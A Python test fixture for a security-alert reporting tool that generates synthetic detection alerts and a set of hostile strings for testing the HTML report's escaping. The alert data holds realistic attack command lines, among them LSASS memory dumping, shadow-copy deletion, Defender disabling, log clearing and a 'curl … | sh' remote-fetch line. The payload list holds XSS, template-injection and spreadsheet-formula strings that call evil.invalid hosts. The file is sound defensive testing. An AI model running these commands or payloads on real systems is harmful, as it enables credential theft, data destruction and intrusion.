"""Believable alert documents and a summary of them, for tests and for looking at the page.

`python -m tests.vedette.report.sample FOLDER` writes a report of them and one of hostile text.
"""

from __future__ import annotations

import random
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from engine.errors import Problem
from vedette.output.summary import Summary

START = datetime(2026, 11, 22, 21, 40, tzinfo=UTC)
GENERATED = datetime(2026, 11, 23, 2, 30, tzinfo=UTC)

TACTICS = {
    "TA0043": "Reconnaissance",
    "TA0001": "Initial Access",
    "TA0002": "Execution",
    "TA0003": "Persistence",
    "TA0004": "Privilege Escalation",
    "TA0005": "Stealth",
    "TA0112": "Defense Impairment",
    "TA0006": "Credential Access",
    "TA0007": "Discovery",
    "TA0008": "Lateral Movement",
    "TA0011": "Command and Control",
    "TA0010": "Exfiltration",
    "TA0040": "Impact",
}

# title, level, category, [(tactic, technique, name, parent's name)], how many, minute, spread,
# host, user, image, command line, parent image
RULES: list[tuple[Any, ...]] = [
    (
        *("LSASS Memory Dumped Through Comsvcs", "critical", "process_creation"),
        [("TA0006", "T1003.001", "LSASS Memory", "OS Credential Dumping")],
        *(2, 142, 3, "ws-fin-07", "CORP\\a.brandt", r"C:\Windows\System32\rundll32.exe"),
        r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\ls.dmp full",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    ),
    (
        *("Shadow Copies Deleted", "critical", "process_creation"),
        [("TA0040", "T1490", "Inhibit System Recovery", "")],
        *(3, 251, 4, "srv-file-01", "CORP\\svc_backup", r"C:\Windows\System32\vssadmin.exe"),
        "vssadmin.exe delete shadows /all /quiet",
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        *("Encoded PowerShell Started by an Office Program", "high", "process_creation"),
        [
            ("TA0002", "T1059.001", "PowerShell", "Command and Scripting Interpreter"),
            ("TA0002", "T1204.002", "Malicious File", "User Execution"),
            ("TA0005", "T1027", "Obfuscated Files or Information", ""),
        ],
        *(4, 96, 12, "ws-fin-07", "CORP\\a.brandt"),
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -NoP -W Hidden -Enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" * 6,
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    ),
    (
        *("Service Installed From a Public Folder", "high", "service_creation"),
        [
            ("TA0003", "T1543.003", "Windows Service", "Create or Modify System Process"),
            ("TA0004", "T1543.003", "Windows Service", "Create or Modify System Process"),
            ("TA0008", "T1021.002", "SMB/Windows Admin Shares", "Remote Services"),
        ],
        *(7, 171, 20, "srv-app-02", "CORP\\svc_backup", r"C:\Windows\System32\services.exe"),
        r"C:\Users\Public\psexesvc.exe -k netsvcs",
        r"C:\Windows\System32\wininit.exe",
    ),
    (
        *("Defender Real-Time Protection Disabled", "high", "process_creation"),
        [("TA0112", "T1685", "Disable or Modify Tools", "")],
        *(3, 133, 6, "ws-fin-07", "CORP\\a.brandt"),
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
        r"C:\Windows\explorer.exe",
    ),
    (
        *("Webshell Child Process of the Web Server", "high", "process_creation"),
        [
            ("TA0003", "T1505.003", "Web Shell", "Server Software Component"),
            ("TA0001", "T1190", "Exploit Public-Facing Application", ""),
        ],
        *(11, 34, 25, "web-01", "www-data", "/usr/bin/dash"),
        "sh -c 'id; uname -a; curl -s http://203.0.113.44/x.sh | sh'",
        "/usr/sbin/apache2",
    ),
    (
        *("Scheduled Task Created for a Script in AppData", "medium", "process_creation"),
        [
            ("TA0003", "T1053.005", "Scheduled Task", "Scheduled Task/Job"),
            ("TA0002", "T1053.005", "Scheduled Task", "Scheduled Task/Job"),
        ],
        *(5, 118, 8, "ws-fin-07", "CORP\\a.brandt", r"C:\Windows\System32\schtasks.exe"),
        r'schtasks /create /tn "OneDrive Sync" /sc minute /mo 15 /tr "wscript C:\Users\a.b\s.vbs"',
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        *("Windows Event Log Cleared", "medium", "security"),
        [("TA0112", "T1685.005", "Clear Windows Event Logs", "Disable or Modify Tools")],
        *(4, 262, 6, "srv-file-01", "CORP\\svc_backup", r"C:\Windows\System32\wevtutil.exe"),
        "wevtutil cl Security",
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        *("Access Key Created for Another User", "medium", "cloudtrail"),
        [
            ("TA0003", "T1098.001", "Additional Cloud Credentials", "Account Manipulation"),
            ("TA0004", "T1098.001", "Additional Cloud Credentials", "Account Manipulation"),
        ],
        *(2, 208, 10, "", "deploy-bot", "", "", ""),
    ),
    (
        *("SSH Password Guessing From One Address", "medium", "auth"),
        [("TA0006", "T1110.001", "Password Guessing", "Brute Force")],
        *(118, 12, 40, "web-01", "root", "/usr/sbin/sshd", "", ""),
    ),
    (
        *("Beacon-Like Requests to a Rare Domain", "medium", "proxy"),
        [("TA0011", "T1071.001", "Web Protocols", "Application Layer Protocol")],
        *(46, 100, 170, "ws-fin-07", "CORP\\a.brandt", "", "", ""),
    ),
    (
        *("Archive With Password Written Before Upload", "medium", "process_creation"),
        [("TA0010", "T1048", "Exfiltration Over Alternative Protocol", "")],
        *(2, 236, 8, "srv-file-01", "CORP\\svc_backup", r"C:\Users\Public\rar.exe"),
        r"rar.exe a -hpS3cret! -v200m C:\Users\Public\q.rar D:\Finance",
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        *("Domain Groups and Trusts Listed", "low", "process_creation"),
        [
            ("TA0007", "T1069.002", "Domain Groups", "Permission Groups Discovery"),
            ("TA0007", "T1482", "Domain Trust Discovery", ""),
        ],
        *(23, 120, 60, "ws-fin-07", "CORP\\a.brandt", r"C:\Windows\System32\net.exe"),
        'net group "Domain Admins" /domain',
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        *("Web Scanner by Its User Agent", "low", "webserver"),
        [("TA0043", "T1595.002", "Vulnerability Scanning", "Active Scanning")],
        *(64, 2, 30, "web-01", "", "", "", ""),
    ),
    (
        *("Rarely Used Administration Tool Started", "informational", "process_creation"),
        [("TA0002", "T1047", "Windows Management Instrumentation", "")],
        *(31, 20, 250, "srv-app-02", "CORP\\helpdesk1", r"C:\Windows\System32\wbem\WMIC.exe"),
        "wmic os get caption,version",
        r"C:\Windows\System32\cmd.exe",
    ),
]

SEVERITY = {"critical": 99, "high": 73, "medium": 47, "low": 21, "informational": 21}


def documents(seed: int = 7) -> list[dict[str, Any]]:
    """The sample's alerts in the order of their events."""
    chance = random.Random(seed)
    found = [
        alert(number, index, rule, chance)
        for number, rule in enumerate(RULES)
        for index in range(rule[4])
    ]
    return sorted(found, key=lambda document: document["event"]["start"])


def summary(alerts: list[dict[str, Any]] | None = None) -> Summary:
    """The sample's figures, with a few problems among them."""
    made = Summary(
        events=438_857,
        bytes=1_214_000_000,
        seconds=35.5,
        rules_loaded=3138,
        rules_failed=3,
    )
    for document in documents() if alerts is None else alerts:
        made.add(document)
    for line in (17, 4031, 20_557):
        made.problems(
            Problem("malformed-json", "the line is no JSON object", "events/proxy.ndjson", line)
        )
    made.problems(
        Problem("rule-error", "unknown modifier 'cntains'", "rules/proxy/x.yml", 14, "detection")
    )
    return made


def alert(number: int, index: int, rule: tuple[Any, ...], chance: random.Random) -> dict[str, Any]:
    """One alert document of a rule of `RULES`."""
    title, level, category, pairs, _, minute, spread, host, user, image, line, parent = rule
    second = minute * 60 + chance.random() ** 1.6 * spread * 60
    when = (START + timedelta(seconds=second)).isoformat(timespec="milliseconds")
    when = when.replace("+00:00", "Z")
    id_ = f"{chance.getrandbits(128):032x}"
    source = f"203.0.113.{chance.randint(40, 47)}"
    domain, _, name = user.rpartition("\\")
    document: dict[str, Any] = {
        "@timestamp": GENERATED.isoformat(),
        "ecs": {"version": "8.17.0"},
        "message": title,
        "event": {
            "kind": "alert",
            "severity": SEVERITY[level],
            "id": id_,
            "start": when,
            "reason": f"Sigma rule {title} matched" + (f" on {host}" if host else ""),
        },
        "rule": {
            "uuid": f"5f1abf38-0000-4000-8000-{number:012d}",
            "name": title,
            "description": f"{title}: seen in intrusions after the first foothold, seldom in "
            "daily work. Check who started it and what ran next on the same host.",
            "author": ["Vedette project"],
            "license": "Apache-2.0",
            "reference": [f"https://example.org/notes/{number}"],
            "category": category,
            "version": "2026-10-02",
        },
        "threat": [threat(*pair) for pair in pairs],
        "related": {"ip": [source]},
        "vedette": {
            "alert": {
                "id": id_,
                "status": "open",
                "kind": "sigma",
                "level": level,
                "depth": 1,
                "original_time": when,
                "rule_status": "test",
                "tags": [f"attack.{technique.lower()}" for _, technique, *_ in pairs],
                "attack": {"version": 19, "unknown": []},
                "ancestors": [
                    {
                        "id": f"{number}-{index}",
                        "index": "recordings/night.ndjson.zst",
                        "type": "event",
                        "depth": 0,
                        "line": 1000 * number + index,
                    }
                ],
                "execution": {"id": "hunt", "type": "hunt"},
            }
        },
    }
    fill(document, category, when, host, (domain, name), image, line, parent, source)
    return document


def fill(
    document: dict[str, Any],
    category: str,
    when: str,
    host: str,
    user: tuple[str, str],
    image: str,
    line: str,
    parent: str,
    source: str,
) -> None:
    """Add what comes from the event, and the event itself."""
    event: dict[str, Any] = {"@timestamp": when, "log": {"level": "information"}}
    explanation = []
    if host:
        document["host"] = event["host"] = {"name": host, "hostname": host}
    if user[1]:
        document["user"] = {"name": user[1]} | ({"domain": user[0]} if user[0] else {})
    if category in {"auth", "proxy", "webserver"}:
        document["source"] = {"ip": source, "port": 51234}
        document["destination"] = {"ip": "10.20.0.11", "port": 443}
        event |= {"src_ip": source, "cs-method": "GET", "c-useragent": "sqlmap/1.8", "sc": 404}
        explanation.append(("src_ip", f"src_ip is {source} in at least 20 events"))
    if image:
        document["process"] = {
            "executable": image,
            "name": image.replace("/", "\\").rpartition("\\")[2],
            "pid": 4120,
            "command_line": line,
            "parent": {"executable": parent, "command_line": parent, "pid": 788},
        }
        event["winlog"] = {
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "event_id": 1,
            "event_data": {
                "Image": image,
                "CommandLine": line,
                "ParentImage": parent,
                "User": "\\".join(user),
                "IntegrityLevel": "High",
                "Hashes": "SHA256=" + "0a1b2c3d" * 8,
            },
        }
        tail = image.replace("/", "\\").rpartition("\\")[2]
        explanation += [("Image", f"Image ends with '\\{tail}'")]
        if line:
            explanation += [("CommandLine", f"CommandLine contains '{line.split()[-1][:40]}'")]
    if category == "cloudtrail":
        event |= {"eventName": "CreateAccessKey", "userIdentity": {"userName": "deploy-bot"}}
        explanation.append(("eventName", "eventName is 'CreateAccessKey'"))
    inner = document["vedette"]["alert"]
    inner["explanation"] = [
        {"feature": feature, "contribution": 1.0, "text": text} for feature, text in explanation
    ]
    inner["source_events"] = [event]


def threat(tactic: str, technique: str, name: str, parent: str) -> dict[str, Any]:
    """One entry of `threat`."""
    upper = technique.partition(".")[0]
    entry: dict[str, Any] = {"id": [upper], "name": [parent or name]}
    if parent:
        entry["subtechnique"] = {"id": [technique], "name": [name]}
    return {
        "framework": "MITRE ATT&CK",
        "tactic": {"id": [tactic], "name": [TACTICS[tactic]]},
        "technique": entry,
    }


PAYLOADS = (
    "<script>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "</details></section></main><h1>broken out</h1>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg/onload=window.__pwned=1><image href=http://evil.invalid/x.png>",
    '"><iframe src="javascript:window.__pwned=1"></iframe>',
    "' autofocus onfocus=window.__pwned=1 x='",
    "javascript:window.__pwned=1",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}${7*7}<%=7*7%>",
    "<style>@import 'http://evil.invalid/x.css';*{display:none}</style>",
    "<link rel=stylesheet href=//evil.invalid/y.css><base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<!--<script>",
    "]]><![CDATA[<script>window.__pwned=1</script>",
    "\u202egpj.exe\u2066\u200b\u2028\u2029\ufeff",
    "nul\x00 bell\x07 \x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "lone \ud800 surrogate \udfff",
    "=cmd|' /C calc'!A0",
    "A" * 6000,
    "\u0301" * 40,
    "[bold red]markup[/] [link=http://evil.invalid]x[/link] :skull: \\",
)


def hostile() -> Iterator[dict[str, Any]]:
    """For each payload, an alert that holds it in every text, key and id."""
    for number, payload in enumerate(PAYLOADS):
        base = alert(0, number, RULES[2], random.Random(number))
        document = _poison(base, payload)
        document["vedette"]["alert"]["level"] = ["critical", payload][number % 2]
        document["vedette"]["alert"]["original_time"] = [base["event"]["start"], payload][
            number % 3 == 0
        ]
        document["vedette"]["alert"]["source_events"].append({payload: {payload: [payload] * 3}})
        document["rule"]["reference"] = [payload, "https://example.org/" + payload]
        yield document
    yield {"event": payload, "rule": [payload], "vedette": {"alert": None}}
    yield {"event": {}, "rule": {}, "vedette": {"alert": {"source_events": [_deep(400)]}}}


def _poison(value: Any, payload: str) -> Any:
    if isinstance(value, dict):
        return {key: _poison(item, payload) for key, item in value.items()}
    if isinstance(value, list):
        return [_poison(item, payload) for item in value]
    return payload if isinstance(value, str) else value


def _deep(levels: int) -> Any:
    value: Any = "end"
    for _ in range(levels):
        value = [{"a": value}]
    return {"deep": value}


def main(folder: str) -> None:
    """Write both reports into a folder."""
    from vedette.report import render

    for name, alerts in (("sample", documents()), ("hostile", list(hostile()))):
        info = render(
            summary(alerts),
            alerts,
            Path(folder) / f"{name}.html",
            title="Night of 22 November",
            generated=GENERATED,
            version="0.1.0",
            command="vedette hunt recordings/ --rules rules/ --report night.html",
        )
        print(info)


if __name__ == "__main__":
    main(*sys.argv[1:])
